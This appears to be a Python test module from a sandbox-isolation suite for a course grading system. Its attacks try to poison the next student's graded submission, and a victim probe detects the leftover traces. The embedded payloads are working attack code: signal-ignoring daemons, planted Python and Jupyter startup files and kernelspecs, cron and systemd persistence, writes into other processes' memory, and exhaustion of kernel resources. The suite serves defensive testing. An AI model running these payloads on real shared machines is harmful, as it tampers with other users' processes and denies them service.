"""G: poison later submissions. Every attack has a victim: right, graded next, and it looks around.

The victim prints `MET ...` for whatever carries its predecessor's mark, so that a trap is found
even if the victim's points survive it.
"""

from __future__ import annotations

import contextlib
import ctypes
import zlib
from collections.abc import Mapping

from tests.attacks.corpus.d_kill import PRIVATE, ungraded
from tests.attacks.course import POINTS, RIGHT
from tests.attacks.kit import Attack, Submission, Win
from tests.attacks.scene import Seen, victim_of

NEXT = "next"
POISONED = {Win.BATCH, Win.LEFT, Win.ESC}

LOOK = r"""
import builtins, ctypes, glob, mmap, os, sys
mark = "@MARK@".removesuffix("next-")
def met(where, thing=""):
    print("MET", where, str(thing)[:80])
def look():
    for place in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/home", ".", "~", "/scratch", "/held",
                  "/dev/mqueue", "/etc/cron.d", sys.prefix):
        for folder, folders, files in os.walk(os.path.expanduser(place)):
            for name in folders + files:
                if mark in name:
                    met("file", os.path.join(folder, name))
            if folder.count("/") > 5:
                folders.clear()
    for path in ("/proc/net/unix", "/proc/self/mountinfo", "/proc/self/maps", "/proc/keys",
                 "/proc/sysvipc/shm", "/proc/sysvipc/sem", "/proc/sysvipc/msg"):
        try:
            with open(path, errors="replace") as file:
                text = file.read()
        except OSError:
            continue
        if mark in text:
            met("line", path)
        if "sysvipc" in path and len(text.splitlines()) > 1:
            met("segment", text.splitlines()[1])
    for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/comm"):
        try:
            with open(path, "rb") as file:
                if mark.encode() in file.read():
                    met("process", path)
        except OSError:
            pass
    for name, value in os.environ.items():
        if mark in name + value:
            met("variable", name)
    for module in list(sys.modules.values()):
        if getattr(module, "swk_poison", None) is not None:
            met("module", module)
    with open("/proc/self/maps") as file:
        for line in file:
            span, mode, _, _, inode, *path = line.split(None, 5)
            if mode.startswith("rw") and mode.endswith("s"):
                start, end = (int(part, 16) for part in span.split("-"))
                try:
                    if mark.encode() in ctypes.string_at(start, min(end - start, 1 << 20)):
                        met("shared memory", line)
                except (ValueError, OSError):
                    pass
    libc = ctypes.CDLL(None)
    if libc.syscall(249, b"user", mark.encode(), None, ctypes.c_long(-5)) > 0:
        met("key")
    if libc.syscall(29, ctypes.c_long(@KEY@), ctypes.c_long(0), ctypes.c_long(0)) >= 0:
        met("segment by its key")
    for path in glob.glob("/dev/shm/*"):
        if not path.startswith("/dev/shm/sem.mp-"):  # its own, of multiprocessing
            met("left in /dev/shm", path)
look()
import socket
for number in range(40000, 40010):
    probe = socket.socket()
    probe.settimeout(0.2)
    if probe.connect_ex(("127.0.0.1", number)) == 0:
        met("port", number)
    probe.close()
if os.getpriority(os.PRIO_PROCESS, 0) > 0:
    met("priority", os.getpriority(os.PRIO_PROCESS, 0))
"""
_KEY = zlib.crc32(b"shardwork attack suite") & 0x3FFFFFFF
LOOK = LOOK.replace("@KEY@", str(_KEY))


def victim(answers: Mapping[str, str] = RIGHT, before: tuple[str, ...] = ()) -> Submission:
    """Everything right; looks for its predecessor first, and again behind the last exercise."""
    return Submission(
        answers, before=(LOOK, *before), after=("import time\ntime.sleep(2)\nlook()",)
    )


def poisoned(seen: Seen) -> list[tuple[Win, str]]:
    """Find that the victim met anything, or lost a point, or that nobody graded the attacker."""
    found = ungraded(seen)
    own = seen.record.cells if seen.record is not None else ()
    found += [(Win.ESC, line) for c in own for line in c.text.splitlines() if "MET" in line]
    record = seen.victim(NEXT)
    if record is None:
        return found
    said = [line for cell in record.cells for line in cell.text.splitlines() if "MET" in line]
    found += [(Win.BATCH, f"the next submission met: {line}") for line in dict.fromkeys(said)]
    full = sum(p for name, p in POINTS[seen.attack.assignment].items() if name != "tell")
    points = seen.batch.points(victim_of(seen.attack, NEXT))
    if points != full:
        found.append((Win.BATCH, f"the next submission, which is right, has {points} points"))
    return found


def poisoned_memory(seen: Seen) -> list[tuple[Win, str]]:
    """Do the same, and remove the segment that an attack makes outside a sandbox."""
    found = poisoned(seen)
    libc = ctypes.CDLL(None)
    for get, control in ((libc.shmget, libc.shmctl), (libc.msgget, libc.msgctl)):
        number = get(_KEY, 1, 0) if get is libc.shmget else get(_KEY, 0)
        if number >= 0:
            with contextlib.suppress(OSError):
                control(number, 0, None)
            found.append((Win.LEFT, f"a segment of System V, number {number}"))
    return found


def _poison(id_: str, title: str, source: str, **more: object) -> Attack:
    fields: dict[str, object] = {
        "wins": POISONED, "alone": True, "detect": poisoned, "victims": {NEXT: victim()}
    }  # fmt: skip
    return Attack(id=id_, title=title, submission=Submission(before=(source,)), **fields | more)  # type: ignore[arg-type]


_DAEMON = """
import os, subprocess, sys
script = '''
import os, signal, sys, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
for number in (1, 2, 3, 13, 15):
    signal.signal(number, signal.SIG_IGN)
until = time.monotonic() + 60
while time.monotonic() < until:
    for place in ("/tmp", "/dev/shm", "/home/student/work"):
        try:
            open(place + "/@MARK@daemon", "w").close()
        except OSError:
            pass
    time.sleep(0.1)
'''
subprocess.run([sys.executable, "-c", script, "@MARK@"])
"""
_LISTENER = """
import os, socket, time
if os.fork() == 0:
    os.setsid()
    listeners = []
    for number in range(40000, 40010):
        try:
            listeners.append(socket.create_server(("127.0.0.1", number)))
        except OSError:
            pass
    name = socket.socket(socket.AF_UNIX)
    name.bind("\\0@MARK@listener")
    name.listen()
    time.sleep(60)
    os._exit(0)
"""
_HOME = """
import os, sys
home = os.path.expanduser("~")
starts = "import builtins, os; builtins.swk_poison = 1; os.environ['SWK'] = '@MARK@'\\n"
for path, text in {
    ".ipython/profile_default/startup/00-@MARK@.py": starts,
    ".ipython/profile_default/ipython_config.py":
        f"c.InteractiveShellApp.exec_lines = [{starts!r}]",
    ".jupyter/jupyter_config.py": starts,
    ".local/lib/python3.11/site-packages/usercustomize.py": starts,
    ".local/lib/python3.11/site-packages/@MARK@.pth": starts,
    ".pythonrc.py": starts,
    ".config/matplotlib/matplotlibrc": "backend: @MARK@",
    ".config/dask/dask.yaml": "temporary-directory: /tmp/@MARK@",
}.items():
    path = os.path.join(home, path)
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(text)
    except OSError as error:
        print(error)
"""
_KERNELSPEC = """
import json, os, sys
spec = {"argv": ["/bin/sh", "-c", "touch @ESC_FILE@"], "display_name": "Python 3",
        "language": "python", "metadata": {}}
for place in ("~/.local/share/jupyter", "/usr/local/share/jupyter", "/tmp/share/jupyter"):
    folder = os.path.join(os.path.expanduser(place), "kernels", "@MARK@")
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "kernel.json"), "w") as file:
            json.dump(spec, file)
        print("wrote", folder)
    except OSError as error:
        print(error)
"""
_PACKAGES = """
import os, sys, sysconfig
import shardwork
places = [sysconfig.get_paths()[n] for n in ("purelib", "platlib", "stdlib", "scripts", "data")]
places += list(shardwork.__path__) + sys.path
places += [os.path.join(place, "__pycache__") for place in places]
own = os.stat(os.path.expanduser("~")).st_dev
for place in dict.fromkeys(filter(os.path.isdir, places)):
    if os.stat(place).st_dev == own:
        continue  # its own files, which end with it
    path = os.path.join(place, "@MARK@.txt")
    try:
        os.close(os.open(path, os.O_CREAT | os.O_WRONLY | os.O_EXCL))
        os.unlink(path)
        print("MET a package folder that can be written:", place)
    except OSError:
        pass
for module in list(sys.modules.values()):
    path = getattr(module, "__file__", None)
    if path and os.access(path, os.W_OK):
        print("MET a module that can be written:", path)
"""
_PREDICTABLE = (
    PRIVATE
    + """
import getpass, tempfile
names = ["@MARK@", "sw-@MARK@"]
if private():
    names += ["hsperfdata_student", "hsperfdata_root", "spark-events", "sw-zygote", ".X11-unix",
              "shardwork_gradebook_x", "ipykernel_1", "dask-worker-space", "dask-scratch-space",
              "kernel", ".ICE-unix", "torchelastic", "pymp-x", "blockmgr", "snappy"]
for place in ("/tmp", "/dev/shm", "/home/student"):
    for number, name in enumerate(names):
        path = os.path.join(place, name)
        try:
            if number % 3 == 0:
                os.mkfifo(path)
            elif number % 3 == 1:
                os.symlink("/proc/self/fd/0", path)
            else:
                os.mkdir(path, 0)
        except OSError as error:
            print(error)
    try:
        os.chmod(place, 0o0)
    except OSError as error:
        print(error)
"""
)
_PREDICTABLE = _PREDICTABLE.replace(
    "        os.chmod(place, 0o0)", "        private() and os.chmod(place, 0)"
)
_TIMERS = """
import os, shutil, subprocess
command = "touch @ESC_FILE@"
line = f"* * * * * {command}\\n"
for program, text in (("crontab", line), ("at", command), ("batch", command)):
    if shutil.which(program):
        arguments = {"crontab": ["-"], "at": ["now"], "batch": []}[program]
        print(subprocess.run([program, *arguments], input=text, text=True, capture_output=True))
for arguments in (["systemd-run", "--user", "--on-active=1", "/bin/sh", "-c", command],
                  ["systemctl", "--user", "daemon-reload"],
                  ["dbus-send", "--session", "--dest=org.freedesktop.systemd1", "/x", "x.y"]):
    if shutil.which(arguments[0]):
        try:
            print(subprocess.run(arguments, capture_output=True, timeout=3))
        except subprocess.TimeoutExpired:
            pass
for path in ("/etc/cron.d/@MARK@", "/var/spool/cron/crontabs/@MARK@", "/etc/cron.hourly/@MARK@",
             "/etc/systemd/system/@MARK@.timer", "/etc/profile.d/@MARK@.sh",
             "/var/spool/at/@MARK@", "/run/systemd/system/@MARK@.service",
             "/etc/init.d/@MARK@", "/etc/xdg/autostart/@MARK@.desktop"):
    try:
        os.close(os.open(path, os.O_CREAT | os.O_WRONLY | os.O_EXCL))
        os.unlink(path)
        open("@ESC_FILE@", "w").close()
    except OSError:
        pass
try:
    os.makedirs(os.path.expanduser("~/.config/systemd/user/default.target.wants"))
    with open(os.path.expanduser("~/.config/systemd/user/@MARK@.service"), "w") as file:
        file.write(f"[Service]\\nExecStart=/bin/sh -c '{command}'\\n")
except OSError:
    pass
"""
_SPARK = """
from shardwork import lab
spark = lab.spark()
sc = spark.sparkContext
spark.conf.set("spark.sql.ansi.enabled", "false")
spark.range(3).createOrReplaceTempView("swk")
spark.range(3).createOrReplaceGlobalTempView("swk")
spark.udf.register("swk", lambda: 1)
sc.setCheckpointDir("/tmp/@MARK@")
sc._jvm.java.lang.System.setProperty("spark.driver.swk", "@MARK@")
try:
    spark.sql("CREATE TABLE swk (x INT) USING parquet")
except Exception as error:
    print(type(error))
import os
for path in (os.environ.get("SPARK_HOME", "") + "/conf/spark-defaults.conf",
             os.path.expanduser("~/.sparkrc")):
    try:
        with open(path, "a") as file:
            file.write("spark.swk @MARK@\\n")
        if not path.startswith(os.path.expanduser("~")):  # which is its own, and ends with it
            print("MET a configuration that can be written:", path)
    except OSError:
        pass
"""
_SPARK_LOOK = """
from shardwork import lab
spark = lab.spark()
names = [t.name for t in spark.catalog.listTables()]
names += [t.name for t in spark.catalog.listTables("global_temp")]
names += [f.name for f in spark.catalog.listFunctions("default", "swk")]
if any("swk" in name for name in names):
    met("in Spark", names)
seen = [spark.conf.get("spark.swk", ""), spark.sparkContext._conf.get("spark.driver.swk", "")]
seen.append(str(spark.sparkContext._jvm.java.lang.System.getProperty("spark.driver.swk")))
if "swk-" in str(seen) or mark in str(seen):
    met("a setting", seen)
"""
_DASK = """
from shardwork import lab
client = lab.dask_client()
client.publish_dataset(swk=[1, 2, 3])
client.set_metadata(["swk"], "@MARK@")
def poison():
    import builtins, dask
    builtins.swk_poison = 1
    dask.compute = None
    return 1
client.run(poison)
client.run_on_scheduler(poison)
import os
for place in ("~/.config/dask", "/etc/dask", os.path.join(__import__("sys").prefix, "etc/dask")):
    try:
        os.makedirs(os.path.expanduser(place), exist_ok=True)
        with open(os.path.expanduser(place) + "/@MARK@.yaml", "w") as file:
            file.write("swk: 1\\n")
    except OSError:
        pass
if os.fork() == 0:
    import time
    os.setsid()
    time.sleep(60)
    os._exit(0)
"""
_DASK_LOOK = """
from shardwork import lab
import dask.config
client = lab.dask_client()
if client.list_datasets() or client.get_metadata(["swk"], None):
    met("in Dask", client.list_datasets())
if any(client.run(lambda: hasattr(__import__("builtins"), "swk_poison")).values()):
    met("a worker")
if dask.config.get("swk", None):
    met("a setting")
"""
_ZYGOTE = """
import builtins, ctypes, gc, os, sys
mark = b"@MARK@poison"
with open("/proc/self/maps") as file:
    for line in file:
        span, mode, _, _, inode, *path = line.split(None, 5)
        if mode.startswith("rw") and mode.endswith("s"):
            start, end = (int(part, 16) for part in span.split("-"))
            ctypes.memmove(start, mark, min(len(mark), end - start))
            print("wrote into", line)
for number in range(3, 200):
    try:
        where = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    print(number, where)
    if where.startswith(("/memfd", "/dev/shm", "/dev/zero")) or "deleted" in where:
        try:
            os.pwrite(number, mark, 0)
            os.lseek(number, 10, 0)
        except OSError:
            pass
for module in list(sys.modules.values()):
    try:
        module.swk_poison = mark
    except (AttributeError, TypeError):
        pass
builtins.swk_poison = mark
os.environ["SWK_POISON"] = "@MARK@"
import random, numpy
random.seed(1)
numpy.random.seed(1)
os.umask(0o777)
for pid in {os.getppid(), *range(1, 9)} - {os.getpid()}:
    for how in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                lambda: os.sched_setaffinity(pid, {0}) if pid > 1 else None,
                lambda: __import__("resource").prlimit(pid, 7, (0, 0))):
        try:
            how()
        except (OSError, ValueError):
            pass
"""
_MEMORY_OF_OTHERS = """
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
for path in glob.glob("/proc/[0-9]*/mem"):
    if path == f"/proc/{os.getpid()}/mem":
        continue
    try:
        with open(path.replace("mem", "maps")) as maps, open(path, "r+b", buffering=0) as memory:
            first = next(line for line in maps if " rw" in line)
            memory.seek(int(first.split("-")[0], 16))
            memory.write(b"@MARK@")
            open("@ESC_FILE@", "w").close()
    except (OSError, StopIteration, ValueError):
        pass
"""
_MEMORY_OF_OTHERS = PRIVATE + "if private():\n" + "\n".join(
    f"    {line}" for line in _MEMORY_OF_OTHERS.strip().splitlines()
)  # fmt: skip
_SYSTEM_V = f"""
import ctypes
libc = ctypes.CDLL(None)
number = libc.syscall(29, ctypes.c_long({_KEY}), ctypes.c_long(4096), ctypes.c_long(0o1666))
print("segment", number)
print("queue", libc.syscall(68, ctypes.c_long({_KEY}), ctypes.c_long(0o1666)))
import multiprocessing.shared_memory as shared
try:
    block = shared.SharedMemory("@MARK@block", create=True, size=4096)
    block.buf[:6] = b"@MARK@"[:6]
except OSError as error:
    print(error)
try:
    import multiprocessing
    lock = multiprocessing.Semaphore(0)
except OSError as error:
    print(error)
"""
_KEYS = """
import ctypes
libc = ctypes.CDLL(None)
for ring in (-5, -4, -3):
    print(libc.syscall(248, b"user", b"@MARK@", b"secret", 6, ctypes.c_long(ring)))
"""
_HOLDS_FILES = """
import fcntl, glob, os, sys
held = []
paths = glob.glob("/course/*/*") + glob.glob("/home/student/work/**", recursive=True)
paths += [m.__file__ for m in list(sys.modules.values()) if getattr(m, "__file__", None)]
for path in paths[:3000]:
    try:
        fd = os.open(path, os.O_RDONLY | os.O_CLOEXEC)
        held.append(fd)
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        fcntl.fcntl(fd, 1024, fcntl.F_RDLCK)
    except OSError:
        pass
print(len(held), "held")
"""
_INOTIFY = """
import ctypes
libc = ctypes.CDLL(None)
made = 0
while made < 4000 and libc.inotify_init1(0) >= 0:
    made += 1
import os
terminals = 0
try:
    while terminals < 1500:
        os.openpty()
        terminals += 1
except OSError as error:
    print(error)
print(made, terminals)
"""
_INOTIFY_VICTIM = """
import ctypes, os
if ctypes.CDLL(None).inotify_init1(0) < 0:
    met("no inotify left")
"""

ATTACKS = [
    _poison("G01", "a daemon acts while the next submission runs", _DAEMON, sample=True),
    _poison("G01b", "a detached process listens where the next one will", _LISTENER),
    _poison("G02", "files in the home that start with the next kernel", _HOME),
    _poison("G02b", "a kernelspec of its own", _KERNELSPEC),
    _poison("G02c", "writes beside the installed packages", _PACKAGES),
    _poison("G04", "makes the temporary names that others will want", _PREDICTABLE),
    _poison("G06", "timers of cron, at and systemd", _TIMERS),
    _poison(
        "G08", "settings, views and functions of a shared Spark", _SPARK, assignment="spark",
        needs=("java",), budget_s=240, victims={NEXT: victim(before=(_SPARK_LOOK,))},
    ),
    _poison(
        "G09", "datasets and patched workers of a shared Dask", _DASK, assignment="dask",
        budget_s=150, victims={NEXT: victim(before=(_DASK_LOOK,))},
    ),
    _poison("G11", "marks everything that it has from the zygote", _ZYGOTE, sample=True),
    _poison("G11b", "writes into the memory of other processes", _MEMORY_OF_OTHERS),
    _poison("G11c", "segments, queues and semaphores of System V and POSIX", _SYSTEM_V,
            detect=poisoned_memory),
    _poison("G11d", "keys in the kernel's keyrings", _KEYS),
    _poison("G12", "holds locks on every file that others read", _HOLDS_FILES),
    _poison("G13", "uses up what the kernel counts for each user", _INOTIFY,
            victims={NEXT: victim(before=(_INOTIFY_VICTIM,))}),
]  # fmt: skip
